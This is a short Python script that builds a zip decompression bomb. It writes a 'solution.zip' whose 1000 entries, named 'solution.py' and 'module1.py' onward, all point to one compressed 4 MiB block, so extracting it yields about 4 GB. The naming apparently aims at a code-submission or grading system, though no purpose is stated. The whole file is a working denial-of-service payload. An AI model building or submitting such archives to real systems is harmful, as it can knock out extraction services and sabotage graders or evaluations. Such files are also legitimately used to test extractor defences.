"""A .zip whose thousand entries all point to the same compressed data."""

import struct
import sys
import zlib
from pathlib import Path

data = b"#" * (4 << 20)
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
packed = packer.compress(data) + packer.flush()
crc = zlib.crc32(data)
local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), len(data), 0, 0)
directory = b""
for n in range(1000):
    name = (f"module{n}.py" if n else "solution.py").encode()
    directory += (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\1\2",
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            len(data),
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
    )
end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1000, 1000, len(directory), len(local + packed), 0)
Path(sys.argv[1], "solution.zip").write_bytes(local + packed + directory + end)
